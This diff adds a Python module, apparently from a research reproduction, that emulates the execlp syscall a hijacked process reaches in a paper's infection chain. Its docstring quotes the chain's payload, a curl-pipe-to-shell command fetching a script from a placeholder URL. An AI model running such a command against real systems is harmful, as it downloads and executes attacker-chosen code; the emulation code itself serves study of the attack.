@@ -1,0 +1,46 @@
+"""The syscall surface a hijacked process can reach.
+
+A successful chain produces a :class:`SyscallInvocation`; the daemon
+process model hands it to its container, which — for ``execlp`` — spawns
+the requested program.  That is the moment the paper's infection chain
+crosses from memory corruption into "run attacker-chosen code":
+``execlp("sh", "sh", "-c", "curl -s ShellScript_URL | sh")``.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import List, Sequence
+
+
+class SyscallError(RuntimeError):
+    """The emulated kernel rejected the invocation."""
+
+
+@dataclass(frozen=True)
+class SyscallInvocation:
+    """A resolved syscall request (name + string arguments)."""
+
+    name: str
+    args: Sequence[str]
+
+
+def perform_execlp(invocation: SyscallInvocation, process_context) -> object:
+    """Execute an ``execlp`` invocation inside the caller's container.
+
+    ``execlp`` searches PATH; the emulated containers install their shell
+    at ``/bin/sh``, so a bare ``sh`` resolves there.  Returns the spawned
+    :class:`repro.container.process.ContainerProcess`.
+    """
+    if invocation.name != "execlp":
+        raise SyscallError(f"unsupported syscall {invocation.name!r}")
+    argv: List[str] = list(invocation.args)
+    if not argv:
+        raise SyscallError("execlp with empty argv")
+    path = argv[0]
+    if "/" not in path:
+        path = f"/bin/{path}"
+    # execlp(file, arg0, arg1, ...): arg0 is the program name by
+    # convention; pass the remaining args through.
+    run_argv = [path] + argv[2:] if len(argv) > 1 else [path]
+    return process_context.spawn(run_argv)
